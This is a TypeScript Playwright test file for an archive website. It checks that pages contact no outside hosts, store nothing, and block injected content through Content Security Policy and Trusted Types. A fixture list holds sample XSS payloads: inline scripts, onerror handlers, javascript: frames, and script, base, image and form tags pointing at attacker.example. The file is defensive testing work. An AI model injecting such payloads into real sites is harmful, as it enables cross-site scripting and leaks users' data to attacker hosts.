import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { chartPath, contributePath, homePath, searchPath, siteFile } from '../../src/domain/address.ts';
import { languages } from '../../src/domain/language.ts';
import { inPages, openSite, type OpenSite, templates } from './site.ts';

let site: OpenSite;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

/** Tells of everything a browser complains of: messages, errors, and violations of the policy. */
async function collectComplaints(context: BrowserContext): Promise<string[]> {
  const complaints: string[] = [];
  await context.exposeFunction('tellViolation', (text: string) => complaints.push(text));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { tellViolation } = globalThis as unknown as { tellViolation: (text: string) => void };
      tellViolation(`${location.href}: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  context.on('console', (message) => complaints.push(`${message.page()?.url() ?? ''}: ${message.text()}`));
  context.on('weberror', (error) => complaints.push(String(error.error())));
  return complaints;
}

async function search(page: Page): Promise<void> {
  await page.getByRole('searchbox').fill('интернет');
  await page.locator('.results a').first().waitFor();
}

async function useEachIsland(page: Page): Promise<void> {
  if (page.url().endsWith(searchPath)) await search(page);
  if (languages.some((language) => page.url().endsWith(siteFile(language, homePath)))) {
    await page.locator('.narrow summary').click();
    await page.locator('#facet-kind input').first().check();
    await page.locator('[data-results] .line a').first().waitFor();
  }
  if (page.url().endsWith(chartPath)) await page.getByRole('button').first().click();
  if (page.url().endsWith(contributePath)) {
    const loaded = page.waitForResponse(/contribute-rules/);
    await page.locator('[name=title]').focus();
    await (await loaded).finished();
  }
}

test('reading every template, searching and zooming break no rule, ask no other host and leave nothing behind', async () => {
  const context = await site.browser.newContext({ reducedMotion: 'reduce' });
  const complaints = await collectComplaints(context);
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  await inPages(context, templates, async (page, file) => {
    await page.goto(site.at(file));
    await useEachIsland(page);
  });
  expect(complaints).toEqual([]);
  expect(asked.length).toBeGreaterThan(templates.length);
  expect(asked.filter((url) => !url.startsWith(site.url))).toEqual([]);
  const page = await context.newPage();
  await page.goto(site.at(siteFile('kk', 'index.html')));
  const kept = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(kept).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
  expect((await context.storageState()).origins).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  await context.close();
}, 180_000);

const attacks: readonly (readonly [name: string, html: string])[] = [
  ['an inline script', '<script>document.title = "attacked"</script>'],
  ['an inline handler', '<img src="missing.png" onerror="document.title = \'attacked\'">'],
  ['a script of another host', '<script src="https://attacker.example/a.js"></script>'],
  ['a script in a data address', '<script src="data:text/javascript,document.title=%22attacked%22"></script>'],
  ['a javascript: address', '<iframe src="javascript:parent.document.title = \'attacked\'"></iframe>'],
  ['a page in a page', '<iframe srcdoc="<script>parent.document.title = \'attacked\'</script>"></iframe>'],
  ['another base', '<base href="https://attacker.example/">'],
  ['a style sheet', '<style>h1 { display: none }</style>'],
  ['a style attribute', '<p style="background: url(https://attacker.example/a.png)">'],
  ['a picture of another host', '<img src="https://attacker.example/a.png" alt="">'],
  ['a form that leads away', '<form action="https://attacker.example/"><button id="send">send</button></form>'],
];

/** Opens a page into whose body something was smuggled; says what came of it. */
async function openAttacked(context: BrowserContext, html: string): Promise<{ page: Page; violations: number }> {
  const page = await context.newPage();
  await page.route('**/kk/index.html', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<main', () => `${html}<main`) });
  });
  const complaints = await collectComplaints(context);
  await page.goto(site.at(siteFile('kk', 'index.html')));
  const send = page.locator('#send');
  if ((await send.count()) > 0) await send.click({ noWaitAfter: true });
  for (let wait = 0; wait < 20 && complaints.length === 0; wait += 1) await page.waitForTimeout(50);
  return { page, violations: complaints.length };
}

test.each(attacks)('%s that got into a page does nothing, and the browser says so', async (_name, html) => {
  const context = await site.browser.newContext({ reducedMotion: 'reduce' });
  const elsewhere: string[] = [];
  await context.route('https://attacker.example/**', (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: 'document.title = "attacked"', contentType: 'text/javascript' });
  });
  const { page, violations } = await openAttacked(context, html);
  expect(await page.title()).not.toBe('attacked');
  expect(await page.locator('h1').isVisible()).toBe(true);
  expect(new URL(page.url()).origin).toBe(new URL(site.url).origin);
  expect(elsewhere).toEqual([]);
  expect(violations).toBeGreaterThan(0);
  await context.close();
});

test('the same script does run where no policy forbids it, so the attacks above are real ones', async () => {
  const context = await site.browser.newContext({ reducedMotion: 'reduce', bypassCSP: true });
  const { page } = await openAttacked(context, attacks[0]?.[1] ?? '');
  expect(await page.title()).toBe('attacked');
  await context.close();
});

test('Trusted Types refuse a foreign script, markup from text, and another policy', async () => {
  const context = await site.browser.newContext({ reducedMotion: 'reduce' });
  const page = await context.newPage();
  await page.goto(site.at(siteFile('kk', searchPath)));
  // The one policy is made when the search first needs it.
  await search(page);
  const refused = await page.evaluate(() => {
    interface Factory {
      createPolicy: (name: string, rules: object) => unknown;
    }
    const { trustedTypes } = globalThis as unknown as { trustedTypes: Factory };
    const tries: readonly (() => unknown)[] = [
      () => (document.createElement('script').src = 'https://attacker.example/a.js'),
      () => (document.createElement('script').src = '../_islands/timeline-chart.js'),
      () => (document.createElement('script').text = 'document.title = "attacked"'),
      () => (document.body.innerHTML = '<p>attacked</p>'),
      () => new Worker('../_islands/search-worker.js'),
      () => trustedTypes.createPolicy('another', {}),
      () => trustedTypes.createPolicy('kidiris', {}),
    ];
    return tries.map((attempt) => {
      try {
        attempt();
        return 'allowed';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    });
  });
  expect(refused).toEqual(Array.from({ length: 7 }, () => 'TypeError'));
  await context.close();
});

test('no other site may show the archive in a frame', async () => {
  const { headers } = await fetch(site.at('index.html'));
  expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
});
